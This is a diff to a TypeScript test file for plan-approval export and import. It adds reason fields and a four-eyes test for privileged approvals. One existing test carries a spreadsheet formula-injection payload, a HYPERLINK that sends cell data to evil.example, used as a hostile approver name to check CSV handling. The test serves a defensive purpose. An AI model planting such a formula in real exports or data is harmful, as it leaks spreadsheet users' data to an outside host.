@@ -139,8 +139,10 @@ describe('export and import', () => {
       by: 'cy',
       at: '2026-11-02T10:00:00.000Z',
       scope: 'import',
+      reason: null,
+      recordedBy: 'ana',
     });
-    priv.approval = { by: 'cy', at: '2026-11-02T10:05:00.000Z', scope: 'operation' };
+    priv.approval = { by: 'cy', at: '2026-11-02T10:05:00.000Z', scope: 'operation', reason: 'Runs the grants desk' };
     const second = importPlanApprovals(db, {
       planId: plan.id,
       content: JSON.stringify(doc),
@@ -193,7 +195,7 @@ describe('export and import', () => {
     expect(lines).toHaveLength(3);
     const privRow = lines[1] as string;
     // The reviewer adds their own approval on the privileged row (empty columns at the end).
-    const approved = privRow.replace(/,,,$/, ',cy,2026-11-03T09:00:00.000Z,operation');
+    const approved = privRow.replace(/,,,,$/, ',cy,2026-11-03T09:00:00.000Z,operation,Covers the desk');
     const result = importPlanApprovals(db, {
       planId: plan.id,
       content: [lines[0], approved, lines[2]].join('\n'),
@@ -227,7 +229,8 @@ describe('export and import', () => {
     const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Open review")';
     // The hostile name comes in through an imported review.
     const doc = JSON.parse(exportPlanJson(db, { planId: plan.id, actor: 'ana' })) as PlanExport;
-    for (const op of doc.operations) op.approval = { by: evil, at: '2026-11-04T08:00:00.000Z', scope: 'operation' };
+    for (const op of doc.operations)
+      op.approval = { by: evil, at: '2026-11-04T08:00:00.000Z', scope: 'operation', reason: 'Reviewed' };
     importPlanApprovals(db, { planId: plan.id, content: JSON.stringify(doc), format: 'json', importedBy: 'ana' });
 
     const csv = exportPlanCsv(db, { planId: plan.id, actor: 'ana' });
@@ -240,5 +243,45 @@ describe('export and import', () => {
     const back = importPlanApprovals(db, { planId: plan.id, content: csv, format: 'csv', importedBy: 'ana' });
     expect(back.imported).toBe(2);
     expect(back.plan.operations.map((o) => o.approval?.by)).toEqual([evil, evil]);
+  });
+
+  it('four-eyes: takes a signed-off privileged approval only from a second administrator with a reason', async () => {
+    const { db, plan } = await reviewed();
+    const doc = JSON.parse(exportPlanJson(db, { planId: plan.id, actor: 'ana' })) as PlanExport;
+    const priv = doc.operations.find((o) => o.privileged) as PlanExport['operations'][0];
+    const importAs = (
+      approval: NonNullable<PlanExport['operations'][0]['approval']>,
+      importedBy = 'Ann (API user x)',
+    ) => {
+      priv.approval = approval;
+      return importPlanApprovals(db, { planId: plan.id, content: JSON.stringify(doc), format: 'json', importedBy });
+    };
+    const at = '2026-11-05T09:00:00.000Z';
+    // The builder signing their own file, this computer's administrator, or no reason: not taken.
+    const own = importAs({ by: 'ANA', at, scope: 'operation', reason: 'Because' });
+    expect(own.skipped).toEqual([
+      { operationId: priv.id, reason: expect.stringMatching(/built this plan/) as unknown },
+    ]);
+    const local = importAs({ by: 'ann', at, scope: 'operation', reason: 'Because' });
+    expect(local.skipped[0]?.reason).toMatch(/this computer's administrator/);
+    const noReason = importAs({ by: 'Cy Reviewer', at, scope: 'operation' });
+    expect(noReason.skipped[0]?.reason).toMatch(/no reason/);
+    expect(getPlan(db, plan.id).operations.find((o) => o.id === priv.id)?.approval).toBeNull();
+
+    const taken = importAs({ by: 'Cy Reviewer', at, scope: 'operation', reason: 'Replaces Bo on the desk' });
+    expect([taken.imported, taken.skipped]).toEqual([1, []]);
+    expect(taken.plan.operations.find((o) => o.id === priv.id)?.approval).toEqual({
+      by: 'Cy Reviewer',
+      at,
+      scope: 'import',
+      reason: 'Replaces Bo on the desk',
+      recordedBy: 'Ann (API user x)',
+    });
+    const entry = listAudit(db, { subject: `plan:${plan.id}`, action: 'plan.imported' }).entries[0];
+    expect(entry?.details).toMatchObject({
+      builder: 'ana',
+      approved: [{ operationId: priv.id, by: 'Cy Reviewer', reason: 'Replaces Bo on the desk' }],
+    });
+    expect(entry?.actor).toBe('Ann (API user x)');
   });
 });
